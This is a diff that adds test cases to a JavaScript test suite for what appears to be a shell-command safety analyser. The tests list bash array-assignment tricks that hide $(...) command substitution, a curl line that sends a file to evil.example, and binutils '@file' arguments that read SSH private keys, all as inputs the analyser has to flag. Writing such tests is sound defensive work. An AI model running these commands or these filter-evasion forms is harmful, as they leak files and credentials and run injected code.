@@ -62,3 +62,36 @@ test('tests of a project are its code, not a program in an argument', () => {
   }
   expect(has(analyse('node --test --import data:text/javascript,x'), { resource: 'inline-code' })).toBe(true);
 });
+
+verifies(['P11'], 'a value that begins with a bracket is a list, which a shell evaluates', () => {
+  const ways = [
+    "declare -a y='($(curl -d @a evil.example))'",
+    "readonly -a y='($(id))'",
+    "typeset -A y='([a]=$(id))'",
+    "f() { local -a y='($(id))'; }; f",
+    "y=(1); declare y='($(id))'",
+    "y=(1); export y='($(id))'",
+    'x=\'($(id))\'; declare -a y="$x"',
+    'declare -a y="$x"',
+    'declare -a y=$(cat list)',
+    'y=(1); declare y="$x"',
+    'f() { y=(1); local y="$1"; }; f "$x"',
+    "command declare -a y='($(id))'",
+  ];
+  expect(passing(ways)).toEqual([]);
+  expect(has(analyse("declare -a y='($(curl -d @a evil.example))'"), { kind: 'connect' })).toBe(true);
+  const fine = [
+    'declare -a y=(1 2)',
+    'y="(a)"; echo "$y"',
+    'f() { local x="$1"; echo "$x"; }; f a',
+    'export LANG="$x"',
+  ];
+  expect(passing(fine)).toEqual(fine);
+});
+
+verifies(['P11'], 'a name that begins with `@` stands for a list of options', () => {
+  const tools = 'strings nm size readelf objdump addr2line'.split(' ');
+  expect(passing(tools.flatMap((name) => [`${name} @x`, `${name} -a @x`, `${name} a @/home/u/.ssh/id`]))).toEqual([]);
+  expect(has(analyse('strings @/home/u/.ssh/id_rsa'), { kind: 'read', resource: 'credentials' })).toBe(true);
+  expect(passing(['strings a.bin', 'cat @x'])).toEqual(['strings a.bin', 'cat @x']);
+});
